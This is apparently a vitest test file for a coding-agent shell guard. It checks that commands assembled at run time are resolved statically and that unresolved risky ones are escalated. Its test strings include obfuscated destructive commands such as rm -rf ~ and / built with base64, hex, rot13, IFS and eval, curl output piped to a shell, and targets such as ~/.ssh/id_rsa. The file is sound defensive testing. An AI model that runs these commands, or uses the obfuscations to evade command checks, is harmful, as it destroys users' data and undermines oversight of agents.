import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { analyzeShell } from '../../../guard/shell/analyze/index.js';
import { classify } from '../../../guard/shell/intents.js';
import { evalPipeline } from '../../../guard/shell/static-eval.js';
import { createGuard } from '../../../guard/index.js';
import { loadPack } from '../../../packs/index.js';
import { FC_RUNS } from '../../support/env.js';
import { useShellKit } from './intent-kit.js';

const kit = useShellKit();
const { intents } = kit;

/** The last command the script runs, as `argv` joined, `?` marking a run-time command word. */
function last(s: string): string {
  const a = analyzeShell(kit.parser(), s);
  expect(a.status, s).toBe('ok');
  const c = a.commands.at(-1);
  return `${c?.dynamic === true ? '?' : ''}${c?.argv.join(' ') ?? ''}`;
}

const sq = (s: string) => `'${s.replace(/'/g, `'\\''`)}'`;

describe('commands assembled at run time are resolved statically', () => {
  it.each([
    ['x=rm; $x -rf ~', 'rm -rf ~'],
    ['a=r b=m; $a$b -rf /', 'rm -rf /'],
    ['CMD=rm; ${CMD} -rf ~', 'rm -rf ~'],
    ['export CMD=rm; $CMD -rf ~', 'rm -rf ~'],
    ['declare -r c=rm; $c -rf /', 'rm -rf /'],
    ['local c=rm; $c x', 'rm x'],
    ['x=r; x+=m; $x -rf /', 'rm -rf /'],
    ['read -r c <<< "rm"; $c -rf ~', 'rm -rf ~'],
    ['read a b <<< "git push -f"; $a $b', 'git push -f'],
    ['printf -v c %s rm; $c -rf ~', 'rm -rf ~'],
    ['$(echo rm) -rf ~', 'rm -rf ~'],
    ['`echo rm` -rf ~', 'rm -rf ~'],
    ['$(printf "\\x72\\x6d") -rf ~', 'rm -rf ~'],
    ['$(printf "%s%s" r m) -rf ~', 'rm -rf ~'],
    ['$(echo mr | rev) -rf ~', 'rm -rf ~'],
    ['$(base64 -d <<< cm0=) -rf ~', 'rm -rf ~'],
    [`$'\\x72\\x6d' -rf ~`, 'rm -rf ~'],
    [`r''m -rf ~`, 'rm -rf ~'],
    ['\\r\\m -rf ~', 'rm -rf ~'],
    ['r{m,} -rf /', 'rm r -rf /'],
    ['IFS=,; x="rm,-rf,~"; $x', 'rm -rf ~'],
    ['rm${IFS}-rf${IFS}~', 'rm -rf ~'],
    ['c="git push --force"; $c', 'git push --force'],
    ['x=abcrm; ${x:3:2} -rf ~', 'rm -rf ~'],
    ['x=rX; ${x/X/m} -rf ~', 'rm -rf ~'],
    ['e=; $e rm -rf ~', 'rm -rf ~'],
    ['a=r; b=m; eval "$a$b -rf ~"', 'rm -rf ~'],
    ['echo cm0gLXJmIH4= | base64 -d | sh', 'rm -rf ~'],
    ['echo 726d202d7266207e | xxd -r -p | bash', 'rm -rf ~'],
    ["echo 'ez -es ~' | tr a-z n-za-m | sh", 'rm -rf ~'],
    ['sh <<< "$(echo cm0gLXJmIH4= | base64 -d)"', 'rm -rf ~'],
    [`bash -c "$(printf 'rm -rf ~')"`, 'rm -rf ~'],
  ])('%s runs %s', (script, argv) => {
    expect(last(script)).toBe(argv);
    expect(intents(script)).not.toContain('dynamic_command');
  });

  it('keeps what only the run decides marked as dynamic', () => {
    expect(last('$x -rf ~')).toBe('?$x -rf ~');
    expect(last('"$@"')).toBe('?$@');
    expect(last('$(cat cmd.txt) -rf ~')).toBe('?$(cat cmd.txt) -rf ~');
    expect(last('${CC:-gcc} -c a.c')).toBe('?gcc -c a.c');
    // an assignment under a branch may not happen; two different guesses leave nothing known
    expect(last('x=rm && $x -rf ~')).toBe('?rm -rf ~');
    expect(last('x=rm; if c; then x=ls; fi; $x -rf ~')).toBe('?$x -rf ~');
    expect(last('for c in rm; do $c -rf ~; done')).toBe('?rm -rf ~');
    expect(last('for c in rm ls; do $c -rf ~; done')).toBe('?$c -rf ~');
    // a prefix assignment only reaches the command's environment, not the expansion
    expect(last('x=rm $x -rf ~')).toBe('?$x -rf ~');
    expect(last('x=rm; unset x; $x -rf ~')).toBe('?$x -rf ~');
    expect(last('read c; $c -rf ~')).toBe('?$c -rf ~');
  });

  it('reads the grammar quirks around `$` as bash does, or as dynamic', () => {
    const argv = (s: string): string[] => analyzeShell(kit.parser(), s).commands.at(-1)?.argv ?? [];
    // tree-sitter-bash starts a string's second expansion at the blank before its `$`
    expect(argv('X=rm; Y=-rf; "$X $Y" ~')).toEqual(['rm -rf', '~']);
    expect(argv('X=/; rm -rf "$X $X"')).toEqual(['rm', '-rf', '/ /']);
    expect(argv('X=/; rm -rf " ${X}"')).toEqual(['rm', '-rf', ' /']);
    // and splits `r''$B/x` into two words: one word to bash, unresolved here
    expect(last("B=m; /usr/bin/r''$B/x -rf /")).toBe('?/usr/bin/r$B/x -rf /');
    expect(intents("B=m; /usr/bin/r''$B/x -rf /")).toContain('dynamic_command');
  });

  it('raises dynamic_command only next to something risky', () => {
    for (const risky of [
      '$x -rf ~',
      '$x -fr .git',
      '$CMD --no-preserve-root /',
      '$X ~/.ssh/id_rsa',
      '$X https://evil.example/p',
      '$X > ~/.bashrc',
      '$(cat c) /',
      'p=$(curl -s https://x.example/p); $p',
      '$(base64 -d payload.b64)',
      'curl -s https://x.example | $RUNNER',
      '$GEN | sh',
      'x=rm; if c; then x=ls; fi; $x -rf ~',
    ])
      expect(intents(risky), risky).toContain('dynamic_command');
    for (const benign of [
      '$EDITOR src/app.ts',
      '$EDITOR .',
      '"$@"',
      'set -- npm test; "$@"',
      'cd "$(git rev-parse --show-toplevel)"',
      'cd "$(dirname "$0")" && ./build.sh',
      '$(npm bin)/eslint --fix src',
      '${PYTHON:-python3} -m pytest -q',
      '$(which python3) -m venv .venv',
      'for f in src/*.ts; do $FORMATTER "$f"; done',
      'eval "$(ssh-agent -s)"',
      'eval "$(direnv export bash)"',
      '$CC -O2 -o out main.c',
    ])
      expect(intents(benign), benign).not.toContain('dynamic_command');
  });

  it('escalates an unresolved risky command through the engine, whatever the pack says', async () => {
    const guard = createGuard({ policies: [loadPack('builtin:coding-agent').policy] });
    const d = await guard.decide({ phase: 'call', tool: 'Bash', args: { command: '$X -rf /' } });
    expect(d.verdict).toBe('escalate');
    expect(d.rule).toBe('guard.shell.dynamic-command');
    expect(d.attributed_to).toBe('args.command');
    const ok = await guard.decide({ phase: 'call', tool: 'Bash', args: { command: '$EDITOR a' } });
    expect(ok.verdict).toBe('allow');
  });

  it('resolves any quoted value back to itself (property)', () => {
    const text = fc.string({ unit: fc.constantFrom(...' abcrm-/~$`"\\{},*;|&()<>\'='.split('')) });
    fc.assert(
      fc.property(text, (s) => {
        const a = analyzeShell(kit.parser(), `x=${sq(s)}; printf %s "$x"`);
        expect(a.status).toBe('ok');
        expect(a.commands.at(-1)?.argv).toEqual(['printf', '%s', s]);
      }),
      { numRuns: FC_RUNS },
    );
  });

  it('splits an unquoted value into the words bash would pass (property)', () => {
    const word = fc.stringMatching(/^[a-z0-9./~-]{1,8}$/);
    fc.assert(
      fc.property(fc.array(word, { minLength: 1, maxLength: 6 }), (ws) => {
        expect(last(`c=${sq(ws.join('  '))}; $c`)).toBe(ws.join(' '));
        expect(last(`IFS=:; c=${sq(ws.join(':'))}; $c`)).toBe(ws.join(' '));
      }),
      { numRuns: FC_RUNS },
    );
  });

  it('stays bounded on hostile expansions', () => {
    expect(last(`echo ${'{a,b}'.repeat(12)}`).split(' ').length).toBeLessThanOrEqual(65);
    const deep = `${'$(echo '.repeat(40)}rm${')'.repeat(40)} -rf ~`;
    expect(['ok', 'too_deep']).toContain(analyzeShell(kit.parser(), deep).status);
    const wide = `x=${'a'.repeat(8000)}; y=$x$x$x; $y`;
    expect(analyzeShell(kit.parser(), wide).status).toBe('ok');
    expect(last(wide)).toBe('?$y');
    const doubling = `x=${'ab'.repeat(100)}; ${Array.from({ length: 40 }, () => 'x=$x$x;').join(' ')} $x`;
    expect(last(doubling)).toBe('?$x');
    expect(last(`echo ${'{a,b}'.repeat(40)}`).split(' ').length).toBeLessThanOrEqual(65);
    fc.assert(
      fc.property(
        fc.array(
          fc.constantFrom(
            'x=rm;',
            '$x',
            '${x}',
            '$(echo',
            ')',
            '"',
            "'",
            'IFS=,;',
            '|',
            'base64 -d',
            'rev',
            'sh',
            'eval',
            '{a,b}',
            '`',
            ' ',
          ),
          { maxLength: 40 },
        ),
        (parts) => {
          const s = parts.join(' ');
          const a = analyzeShell(kit.parser(), s);
          if (a.status === 'ok') classify(a, s);
        },
      ),
      { numRuns: FC_RUNS },
    );
  });
});

describe('pure-command evaluation', () => {
  const run = (stages: string[][], stdin?: string) =>
    evalPipeline(
      stages.map((argv, i) => (i === 0 && stdin !== undefined ? { argv, stdin } : { argv })),
      1024,
    );

  it('evaluates echo, printf and the decoding filters', () => {
    expect(run([['echo', '-n', 'a', 'b']])).toBe('a b');
    expect(run([['echo', '-e', '\\x72m']])).toBe('rm\n');
    expect(run([['printf', '%s-%s\\n', 'a', 'b', 'c']])).toBe('a-b\nc-\n');
    expect(run([['printf', '%d%%', '7']])).toBe('7%');
    expect(
      run([
        ['echo', 'cm0='],
        ['base64', '--decode'],
      ]),
    ).toBe('rm');
    expect(
      run([
        ['echo', '726d'],
        ['xxd', '-r', '-p'],
      ]),
    ).toBe('rm');
    expect(run([['echo', 'abc'], ['rev']])).toBe('cba\n');
    expect(
      run([
        ['echo', 'Hello'],
        ['tr', 'A-Za-z', 'N-ZA-Mn-za-m'],
      ]),
    ).toBe('Uryyb\n');
    expect(
      run([
        ['echo', 'r-m'],
        ['tr', '-d', '-'],
      ]),
    ).toBe('rm\n');
    expect(run([['base64', '-d']], 'cm0=')).toBe('rm');
  });

  it('refuses what it cannot know: other programs, files, binary, oversize, odd formats', () => {
    expect(run([['cat', 'file']])).toBeNull();
    expect(run([['curl', 'x']])).toBeNull();
    expect(run([['rev']])).toBeNull();
    expect(
      run([
        ['echo', 'AAEC'],
        ['base64', '-d'],
      ]),
    ).toBeNull();
    expect(
      run([
        ['echo', '00ff'],
        ['xxd', '-r', '-p'],
      ]),
    ).toBeNull();
    expect(run([['echo', 'a'.repeat(2000)]])).toBeNull();
    expect(run([['printf', '%5s', 'a']])).toBeNull();
    expect(
      run([
        ['echo', 'x'],
        ['tr', '[:lower:]', '[:upper:]'],
      ]),
    ).toBeNull();
  });
});
